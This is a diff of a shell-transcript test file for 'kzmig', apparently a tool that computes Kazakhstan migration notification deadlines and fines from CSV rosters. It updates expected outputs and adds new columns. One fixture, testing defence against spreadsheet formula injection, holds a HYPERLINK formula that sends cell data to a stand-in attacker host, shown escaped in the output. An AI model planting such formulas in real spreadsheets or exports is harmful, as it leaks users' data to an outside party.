@@ -10,25 +10,25 @@
 #    21 Mar: 10 + 30 + 31 + 4).
 # A3 RU Mon 2 Jun 2025: Mon, Tue, Wed -> Wed 4 Jun.
 $ kzmig batch tests/fixtures/rosters/basic.csv --only arrival-notification --today 2025-03-21
-id,name,citizenship,deadline,opens,due,days_left,status,responsible,fine_kzt,basis
-A1,Aliya Nurova,UZ,arrival-notification,,2025-03-27,6,upcoming,receiving-party,39320,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival"
-A2,"Chen, Wei",CN,arrival-notification,,2025-06-04,75,upcoming,receiving-party,39320,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival"
-A3,Timur Ivanov,RU,arrival-notification,,2025-06-04,75,upcoming,receiving-party,39320,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival"
+id,name,citizenship,deadline,opens,due,days_left,status,responsible,fine_kzt,basis,apply_by,title,provisional,reason,email
+A1,Aliya Nurova,UZ,arrival-notification,,2025-03-27,6,upcoming,receiving-party,39320,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival",,Notify the migration service of the arrival,false,,
+A2,"Chen, Wei",CN,arrival-notification,,2025-06-04,75,upcoming,receiving-party,39320,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival",,Notify the migration service of the arrival,false,,
+A3,Timur Ivanov,RU,arrival-notification,,2025-06-04,75,upcoming,receiving-party,39320,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival",,Notify the migration service of the arrival,false,,
 
 # --count-from next-day (Civil Code art. 173): A3 Mon 2 Jun -> Tue, Wed, Thu 5 Jun.
 $ kzmig batch tests/fixtures/rosters/basic.csv --only arrival-notification --today 2025-03-21 --count-from next-day | grep '^A3'
-A3,Timur Ivanov,RU,arrival-notification,,2025-06-05,76,upcoming,receiving-party,39320,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival"
+A3,Timur Ivanov,RU,arrival-notification,,2025-06-05,76,upcoming,receiving-party,39320,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival",,Notify the migration service of the arrival,false,,
 
 # A bad row is named by its line and skipped; the others still come out; exit 1.
 # B5 KG Fri 27 Dec 2024: Fri 27, Mon 30, Tue 31 Dec; 80 days before 21 Mar 2025
 # (Jan 31 + Feb 28 + 21); the fine uses the MCI of the first day late, Wed 1 Jan 2025.
 $ kzmig batch tests/fixtures/rosters/bad-rows.csv --only arrival-notification --today 2025-03-21
-id,name,citizenship,deadline,opens,due,days_left,status,responsible,fine_kzt,basis
-B1,Good One,UZ,arrival-notification,,2025-03-27,6,upcoming,receiving-party,39320,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival"
+id,name,citizenship,deadline,opens,due,days_left,status,responsible,fine_kzt,basis,apply_by,title,provisional,reason,email
+B1,Good One,UZ,arrival-notification,,2025-03-27,6,upcoming,receiving-party,39320,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival",,Notify the migration service of the arrival,false,,
 kzmig: tests/fixtures/rosters/bad-rows.csv:3: arrival: no such date '2025-02-30' (expected a day 01..28)
 kzmig: tests/fixtures/rosters/bad-rows.csv:4: citizenship: unknown country 'XX' (expected ISO 3166-1 alpha-2, e.g. UZ)
 kzmig: tests/fixtures/rosters/bad-rows.csv:5: 3 cells (expected 4, as in the header)
-B5,Good Two,KG,arrival-notification,,2024-12-31,-80,overdue,receiving-party,39320,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival"
+B5,Good Two,KG,arrival-notification,,2024-12-31,-80,overdue,receiving-party,39320,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival",,Notify the migration service of the arrival,false,,
 [exit 1]
 
 # Cells a spreadsheet would run as formulas (= + - @, a leading tab) get a leading ',
@@ -36,28 +36,28 @@ B5,Good Two,KG,arrival-notification,,2024-12-31,-80,overdue,receiving-party,3932
 # host gets a warning (no KZT), medium 15 MCI = 58,980, large 20 MCI = 78,640 (CAO 518
 # p. 1 x 3,932).
 $ kzmig batch tests/fixtures/rosters/formulas.csv --only arrival-notification --today 2025-03-21 --host large
-id,name,citizenship,deadline,opens,due,days_left,status,responsible,fine_kzt,basis
-F1,"'=HYPERLINK(""http://evil.example/?x=""&A1;""click"")",UZ,arrival-notification,,2025-03-27,6,upcoming,receiving-party,78640,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival"
-F2,'+7 701 000 00 00,UZ,arrival-notification,,2025-03-27,6,upcoming,receiving-party,,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival"
-F3,'-Ivanov,UZ,arrival-notification,,2025-03-27,6,upcoming,receiving-party,58980,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival"
-F4,'@SUM(A1:A9),UZ,arrival-notification,,2025-03-27,6,upcoming,receiving-party,78640,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival"
-'=F5,'	tab,UZ,arrival-notification,,2025-03-27,6,upcoming,receiving-party,78640,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival"
+id,name,citizenship,deadline,opens,due,days_left,status,responsible,fine_kzt,basis,apply_by,title,provisional,reason,email
+F1,"'=HYPERLINK(""http://evil.example/?x=""&A1;""click"")",UZ,arrival-notification,,2025-03-27,6,upcoming,receiving-party,78640,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival",,Notify the migration service of the arrival,false,,
+F2,'+7 701 000 00 00,UZ,arrival-notification,,2025-03-27,6,upcoming,receiving-party,,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival",,Notify the migration service of the arrival,false,,
+F3,'-Ivanov,UZ,arrival-notification,,2025-03-27,6,upcoming,receiving-party,58980,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival",,Notify the migration service of the arrival,false,,
+F4,'@SUM(A1:A9),UZ,arrival-notification,,2025-03-27,6,upcoming,receiving-party,78640,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival",,Notify the migration service of the arrival,false,,
+'=F5,'	tab,UZ,arrival-notification,,2025-03-27,6,upcoming,receiving-party,78640,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival",,Notify the migration service of the arrival,false,,
 
 # A UTF-8 BOM, CRLF line ends, columns in another order, an unknown column, a line break
 # inside a quoted cell.  C1 TJ Fri 3 Jan 2025 (a day off by order): Sun 5 Jan is worked
 # and is day 1, Mon 6 day 2, Tue 7 (Christmas) off, Wed 8 day 3.  C2 is a citizen of
 # Kazakhstan (record on lines 3-4).  C3 BY Fri 27 Dec 2024 -> Tue 31 Dec.
 $ kzmig batch tests/fixtures/rosters/crlf-bom.csv --only arrival-notification --today 2025-01-06
-id,name,citizenship,deadline,opens,due,days_left,status,responsible,fine_kzt,basis
-C1,"Karimov, Rustam",TJ,arrival-notification,,2025-01-08,2,upcoming,receiving-party,39320,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival"
+id,name,citizenship,deadline,opens,due,days_left,status,responsible,fine_kzt,basis,apply_by,title,provisional,reason,email
+C1,"Karimov, Rustam",TJ,arrival-notification,,2025-01-08,2,upcoming,receiving-party,39320,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival",,Notify the migration service of the arrival,false,,
 kzmig: tests/fixtures/rosters/crlf-bom.csv:3: citizenship: KZ: no migration rules apply to citizens of Kazakhstan
-C3,"Anna ""Anya"" Petrova",BY,arrival-notification,,2024-12-31,-6,overdue,receiving-party,39320,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival"
+C3,"Anna ""Anya"" Petrova",BY,arrival-notification,,2024-12-31,-6,overdue,receiving-party,39320,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival",,Notify the migration service of the arrival,false,,
 [exit 1]
 
 # - reads stdin.
 $ printf 'id,citizenship,arrival\nS1,uz,2025-06-01\n' | kzmig batch - --only arrival-notification --today 2025-06-04
-id,name,citizenship,deadline,opens,due,days_left,status,responsible,fine_kzt,basis
-S1,,UZ,arrival-notification,,2025-06-04,0,due-today,receiving-party,39320,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival"
+id,name,citizenship,deadline,opens,due,days_left,status,responsible,fine_kzt,basis,apply_by,title,provisional,reason,email
+S1,,UZ,arrival-notification,,2025-06-04,0,due-today,receiving-party,39320,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival",,Notify the migration service of the arrival,false,,
 
 # JSON: one object per person per line (JSON Lines), person_json with "id" and "name".
 $ kzmig batch tests/fixtures/rosters/basic.csv --only arrival-notification --today 2025-03-21 --format json | head -1
@@ -70,10 +70,10 @@ A3	Timur Ivanov	true
 # --output: written beside the target and renamed into place; nothing else is left.
 $ d=$(mktemp -d) && kzmig batch tests/fixtures/rosters/basic.csv --only arrival-notification --today 2025-03-21 --output "$d/due.csv"; echo "exit $?"; cat "$d/due.csv"; ls -A "$d"; rm -rf "$d"
 exit 0
-id,name,citizenship,deadline,opens,due,days_left,status,responsible,fine_kzt,basis
-A1,Aliya Nurova,UZ,arrival-notification,,2025-03-27,6,upcoming,receiving-party,39320,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival"
-A2,"Chen, Wei",CN,arrival-notification,,2025-06-04,75,upcoming,receiving-party,39320,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival"
-A3,Timur Ivanov,RU,arrival-notification,,2025-06-04,75,upcoming,receiving-party,39320,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival"
+id,name,citizenship,deadline,opens,due,days_left,status,responsible,fine_kzt,basis,apply_by,title,provisional,reason,email
+A1,Aliya Nurova,UZ,arrival-notification,,2025-03-27,6,upcoming,receiving-party,39320,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival",,Notify the migration service of the arrival,false,,
+A2,"Chen, Wei",CN,arrival-notification,,2025-06-04,75,upcoming,receiving-party,39320,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival",,Notify the migration service of the arrival,false,,
+A3,Timur Ivanov,RU,arrival-notification,,2025-06-04,75,upcoming,receiving-party,39320,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival",,Notify the migration service of the arrival,false,,
 due.csv
 
 # Bad rows still give a file of the good ones (and exit 1).
@@ -93,7 +93,7 @@ ls: cannot access 'tests/fixtures/rosters/no-such-folder': No such file or direc
 
 # A bad file is exit 2 with nothing on stdout, and --output is not created.
 $ d=$(mktemp -d) && kzmig batch tests/fixtures/rosters/no-arrival.csv --output "$d/due.csv"; echo "exit $?"; ls -A "$d"; rm -rf "$d"
-kzmig: tests/fixtures/rosters/no-arrival.csv:1: no column 'arrival' in the header (expected the columns id,citizenship,arrival and optionally name,birth,visa_expiry,passport_expiry,email,host)
+kzmig: tests/fixtures/rosters/no-arrival.csv:1: no column 'arrival' in the header (expected the columns id,citizenship,arrival and optionally name,birth,visa_expiry,passport_expiry,trp_expiry,entry,host,count_from,email,trips,moves)
 exit 2
 $ kzmig batch tests/fixtures/rosters/no-header.csv
 kzmig: tests/fixtures/rosters/no-header.csv:1: no header row (expected a first row naming the columns: id,citizenship,arrival,...)
@@ -139,15 +139,17 @@ due.csv
 
 # Each bad cell is named; an empty roster (a header only) is fine.
 $ printf 'id,citizenship,arrival,host\nX1,UZ,1990-01-01,\nX2,U1,2025-01-01,\nX3,UZ,2025-01-01,big\n,UZ,2025-01-01,\nX5,UZ,,\n' | kzmig batch - --today 2025-01-01
-id,name,citizenship,deadline,opens,due,days_left,status,responsible,fine_kzt,basis
+id,name,citizenship,deadline,opens,due,days_left,status,responsible,fine_kzt,basis,apply_by,title,provisional,reason,email
 kzmig: stdin:2: arrival: 1990-01-01 is outside the days kzmig covers (expected 2002-03-01..2198-12-31)
 kzmig: stdin:3: citizenship: 'U1' is not a country code (expected ISO 3166-1 alpha-2, e.g. UZ)
-kzmig: stdin:4: host: unknown category 'big' (expected individual|small|medium|large)
+kzmig: stdin:4: host: unknown value 'big' (expected individual|small|medium|large)
+X3,,UZ,arrival-notification,,2025-01-08,7,upcoming,receiving-party,,"Law on Population Migration, art. 6 p. 4: within 3 working days of arrival",,Notify the migration service of the arrival,false,fine unknown: host: unknown value 'big' (expected individual|small|medium|large),
+X3,,UZ,trp,,2025-01-30,29,upcoming,receiving-party,,"Law on Population Migration art. 6 p. 4 and art. 6-1: a TRP to stay past the visa-free limit (per entry from the crossing, and days within 180 over earlier trips); apply by allows 7 working days of processing, a time no official source confirms",2025-01-21,Obtain a temporary residence permit (TRP),false,fine unknown: host: unknown value 'big' (expected individual|small|medium|large),
 kzmig: stdin:5: id: empty (expected the person's id)
 kzmig: stdin:6: arrival: empty (expected the arrival date, YYYY-MM-DD)
 [exit 1]
 $ printf 'id,citizenship,arrival\r\n' | kzmig batch -
-id,name,citizenship,deadline,opens,due,days_left,status,responsible,fine_kzt,basis
+id,name,citizenship,deadline,opens,due,days_left,status,responsible,fine_kzt,basis,apply_by,title,provisional,reason,email
 
 # iCalendar (out_ics.c): one all-day event per person and deadline; the same roster gives
 # the same UIDs on every run, so a re-import updates instead of duplicating.
